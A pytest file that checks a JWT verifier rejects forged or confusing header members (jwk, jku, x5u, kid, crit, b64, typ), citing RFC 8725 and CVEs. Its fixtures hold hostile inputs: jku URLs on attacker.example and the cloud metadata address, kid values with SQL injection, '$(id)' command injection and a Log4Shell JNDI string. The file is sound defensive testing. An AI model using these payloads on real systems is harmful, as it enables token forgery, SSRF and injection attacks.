"""What a header carries besides `alg`: keys and addresses are never looked at, `kid` is opaque, `crit` and `b64` refuse the token
(RFC 8725 section 3.10, CVE-2018-0114, CVE-2026-27962, RFC 7515 section 4.1.11, CVE-2026-32597, RFC 7797).
"""

from __future__ import annotations

import json
from typing import Any

import pytest
from judge import verdict

import forge
from expect import refused


def embedded(algorithm: str) -> list[dict[str, Any]]:
    evil = forge.material(algorithm, 1)
    jwk = evil.jwk()
    return [
        {"jwk": jwk},
        {"jwk": json.dumps(jwk)},
        {"jwk": evil.jwk(private=True)},
        {"jku": "https://attacker.example/jwks.json"},
        {"jku": "file:///etc/passwd"},
        {"jku": "http://169.254.169.254/latest/meta-data/"},
        {"x5u": "https://attacker.example/chain.pem"},
        {"x5c": [forge.b64(evil.der() if algorithm[:2] != "HS" else evil.secret)]},
        {"x5t": "AAAA", "x5t#S256": "AAAA"},
        {
            "jwk": jwk,
            "jku": "https://attacker.example/",
            "kid": "evil",
            "x5c": ["AAAA"],
            "x5u": "ftp://attacker.example/",
        },
        {
            "keys": [jwk],
            "key": jwk,
            "pem": "-----BEGIN PUBLIC KEY-----",
            "iss": "https://attacker.example/",
            "zip": "DEF",
            "enc": "A256GCM",
        },
    ]


@pytest.mark.parametrize("algorithm", ["HS256", "RS256", "ES256", "EdDSA"])
def test_keys_in_the_header(verifier: Any, algorithm: str) -> None:
    judge = verifier(algorithm)
    for header in embedded(algorithm):
        forged = forge.token(algorithm=algorithm, header=header, key=forge.material(algorithm, 1))
        assert verdict(judge, forged) == "bad_signature"
        assert verdict(judge, forge.token(algorithm=algorithm, header=header)) is None


@pytest.mark.parametrize(
    "name", ["jwk", "jku", "x5u", "x5c", "x5t", "x5t#S256", "cty", "zip", "enc", "p2c", "p2s", "epk", "apu"]
)
@pytest.mark.parametrize("value", [None, 1, [], {}, "", [[[]]], -0.0])
def test_members_that_mean_nothing_here_are_of_any_type(verifier: Any, name: str, value: Any) -> None:
    assert verdict(verifier(), forge.token(header={name: value})) is None


@pytest.fixture
def two_keys(impl: Any, verifier: Any) -> Any:
    """A verifier with keys `a` and `b`."""
    keys = [
        impl.Key.from_secret(forge.material("HS256", i).secret, algorithm="HS256", kid=kid)
        for i, kid in enumerate("ab")
    ]
    return verifier("HS256", keys=keys)


KIDS = [
    "../../../../dev/null",
    "/etc/passwd",
    "C:\\windows\\win.ini",
    "\\\\attacker.example\\share",
    "' OR '1'='1",
    "a' UNION SELECT 'secret'; --",
    "a\0",
    "\0a",
    "a ",
    " a",
    "A",
    "",
    "a\n",
    "a,b",
    "*",
    "%61",
    "\uff41",
    "a\u200b",
    "á",
    "a\u0301",
    "|/usr/bin/id",
    "$(id)",
    "${jndi:ldap://attacker.example/a}",
    "https://attacker.example/key",
    "k" * 8000,
    "\U0010ffff",
]


@pytest.mark.parametrize("kid", KIDS, ids=range(len(KIDS)))
def test_kids_are_opaque(impl: Any, verifier: Any, two_keys: Any, kid: str) -> None:
    assert verdict(two_keys, forge.token(header={"kid": kid})) == "key_unknown"
    named = impl.Key.from_secret(forge.material("HS256").secret, algorithm="HS256", kid=kid)
    token = forge.token(header={"kid": kid})
    judge = verifier("HS256", keys=[named])
    assert verdict(judge, token) is None
    assert judge.verify(token).kid == kid


@pytest.mark.parametrize("kid", [None, 0, 1, 1.5, True, [], ["a"], {}, {"a": 1}, {"$ne": ""}])
def test_kids_that_are_no_strings(two_keys: Any, kid: Any) -> None:
    assert verdict(two_keys, forge.token(header={"kid": kid})) == "kid_invalid"


def test_kid_decides_alone(two_keys: Any) -> None:
    """The other key is not tried, nor the only one with a name for another name."""
    for said, meant in (("a", 1), ("b", 0)):
        assert (
            verdict(two_keys, forge.token(header={"kid": said}, key=forge.material("HS256", meant))) == "bad_signature"
        )
    assert verdict(two_keys, forge.token(key=forge.material("HS256", 1))) is None


def test_a_single_named_key(verifier: Any, key: Any) -> None:
    named = verifier("HS256", keys=key("HS256", kid="a"))
    assert verdict(named, forge.token(header={"kid": "b"})) == "key_unknown"
    assert verdict(named, forge.token()) is None
    assert verdict(verifier("HS256", keys=key("HS256")), forge.token(header={"kid": "whatever"})) is None


CRIT = {
    "crit_invalid": [
        None, 0, True, "", "b64", "exp", {}, {"b64": True}, [], [None], [1], [True], [[]], [["exp"]], [{}], ["missing"], [""], ["b64"],
        ["exp", 1], ["exp", "missing"], ["exp", None], *[[name] for name in ("alg", "kid", "typ", "cty", "crit", "jwk", "jku", "x5c")],
        ["exp", "alg"], ["EXP"], ["exp "],
    ],
    "crit_unsupported": [["exp"], ["exp", "exp"], ["http://example.com/x"], ["exp", "http://example.com/x"]],
}  # fmt: skip


@pytest.mark.parametrize(("code", "crit"), [(code, crit) for code, values in CRIT.items() for crit in values])
def test_crit(verifier: Any, code: str, crit: Any) -> None:
    header = {"exp": 1, "http://example.com/x": None, "kid": "a", "typ": "JWT", "crit": crit}
    assert verdict(verifier(), forge.token(header=header)) == code


@pytest.mark.parametrize("b64", [True, False, None, 0, "false", [], {}])
def test_b64(verifier: Any, b64: Any) -> None:
    """RFC 7797 is not supported, whatever the member says and with or without `crit`; nor is an unencoded payload."""
    for header in ({"b64": b64}, {"b64": b64, "crit": ["b64"]}):
        assert verdict(verifier(), forge.token(header=header)) == "crit_unsupported"
    head = forge.b64(forge.dump({"alg": "HS256", "b64": False, "crit": ["b64"]}))
    for payload in (forge.dump(forge.CLAIMS).decode(), "a.b", "$.02"):
        assert verdict(verifier(), forge.signed(f"{head}.{payload}")) in ("payload_base64", "segment_count")
    detached = forge.signed(f"{head}.{forge.b64(forge.dump(forge.CLAIMS))}").split(".")
    assert verdict(verifier(), f"{detached[0]}..{detached[2]}") == "crit_unsupported"


def test_crit_comes_before_the_keys(impl: Any) -> None:
    """Also where no key fits: what is reported must not depend on the keys."""
    empty = impl.Verifier(impl.KeySet([]), algorithms=["HS256"], issuer=None, audience=None, clock=lambda: forge.NOW)
    assert verdict(empty, forge.token(header={"exp": 1, "crit": ["exp"]})) == "crit_unsupported"
    assert verdict(empty, forge.token()) == "key_unknown"


TYPES = [
    ("at+jwt", "at+jwt", None),
    ("at+jwt", "AT+JWT", None),
    ("at+jwt", "application/at+jwt", None),
    ("at+jwt", "APPLICATION/At+Jwt", None),
    ("application/at+jwt", "at+jwt", None),
    ("at+jwt", "JWT", "typ_mismatch"),
    ("at+jwt", "", "typ_mismatch"),
    ("at+jwt", "at+jwt ", "typ_mismatch"),
    ("at+jwt", "at+jwt\0", "typ_mismatch"),
    ("at+jwt", "at+jwt; charset=utf-8", "typ_mismatch"),
    ("at+jwt", "application/application/at+jwt", "typ_mismatch"),
    ("at+jwt", "text/at+jwt", "typ_mismatch"),
    ("at+jwt", "/at+jwt", "typ_mismatch"),
    ("at+jwt", "logout+jwt", "typ_mismatch"),
    ("kb+jwt", "\u212ab+jwt", "typ_mismatch"),
    ("dpop+jwt", "ＤPOP+JWT", "typ_mismatch"),
    ("jwt", "\u0130jwt", "typ_mismatch"),
]


@pytest.mark.parametrize(("wanted", "typ", "code"), TYPES)
def test_typ_confusion(verifier: Any, wanted: str, typ: str, code: str | None) -> None:
    """RFC 8725 section 3.11: a token made for one use is not taken for another's; the case is ASCII's only."""
    assert verdict(verifier(typ=wanted), forge.token(header={"typ": typ})) == code
    assert verdict(verifier(typ=["x", wanted]), forge.token(header={"typ": typ})) == code
    assert verdict(verifier(), forge.token(header={"typ": typ})) is None


def test_typ_absent_or_of_another_type(verifier: Any) -> None:
    assert verdict(verifier(typ="JWT"), forge.token()) == "typ_mismatch"
    for typ in (None, 1, ["JWT"], {"JWT": 1}):
        assert verdict(verifier(), forge.token(header={"typ": typ})) == "typ_invalid"


def test_a_header_of_another_key_does_not_stick(impl: Any, two_keys: Any) -> None:
    """What one token's header said must not be remembered for the next (memo of headers)."""
    good = forge.token(header={"kid": "a"})
    for _ in range(3):
        assert verdict(two_keys, good) is None
        assert verdict(two_keys, forge.token(header={"kid": "a"}, key=forge.material("HS256", 1))) == "bad_signature"
        assert verdict(two_keys, forge.token(header={"kid": "a", "crit": ["x"], "x": 1})) == "crit_unsupported"
    two_keys.replace_keys(impl.Key.from_secret(b"n" * 32, algorithm="HS256", kid="a"))
    assert verdict(two_keys, good) == "bad_signature"
    with refused("key_unknown"):
        two_keys.decode(forge.token(header={"kid": "b"}))
